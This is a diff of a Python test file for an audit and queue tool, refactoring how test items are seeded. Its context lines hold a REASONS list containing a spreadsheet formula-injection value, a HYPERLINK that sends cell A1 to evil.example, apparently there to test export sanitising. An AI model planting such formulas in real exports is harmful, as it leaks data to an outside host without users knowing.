@@ -17,17 +17,15 @@ from typing import Any
 from click.testing import CliRunner
 from sqlalchemy import func, select, update
 
-from collectors.pipeline import Enricher
-from collectors.runner import sync_sources
-from collectors.store import store_batch
 from collectors.types import RawPost
 from config.settings import Settings
 from models import actions
 from models.audit import check_chain, iter_events, rebuild_history, verify_chains
 from models.db import Database
 from models.sla import SlaClock
-from models.tables import AuditEvent, QueueItem, SourceRow, utcnow
+from models.tables import AuditEvent, QueueItem
 from models.users import add_user, set_active
+from tests.kit import seed_items
 from vigie.cli_audit import audit
 
 SEED = 20240501
@@ -51,18 +49,13 @@ REASONS = ["customer called back", '=HYPERLINK("http://evil.example/?x="&A1,"ope
 
 
 def _seed_items(db: Database, settings: Settings, per_team: int) -> list[int]:
-    sync_sources(db, settings)
     now = datetime.now(UTC)
     posts = [RawPost(f"{team}-{i}", "x", text.format(i=i), now - timedelta(minutes=i), None, f"@author{team}{i}",
                      f"Author {i}", 10 * i)
              for team, text in TEXTS.items() for i in range(per_team)]
-    with db.write.begin() as s:
-        sid = s.scalars(select(SourceRow.id).where(SourceRow.name == "demo")).one()
-        enricher = Enricher(settings)
-        store_batch(s, sid, [enricher.enrich(p, utcnow()) for p in posts], None)
+    ids = seed_items(db, settings, posts)
     with db.read() as s:
         teams = dict(s.execute(select(QueueItem.team, func.count()).group_by(QueueItem.team)).all())
-        ids = list(s.scalars(select(QueueItem.id).order_by(QueueItem.id)))
     assert teams == {team: per_team for team in TEXTS}, teams
     return ids
 
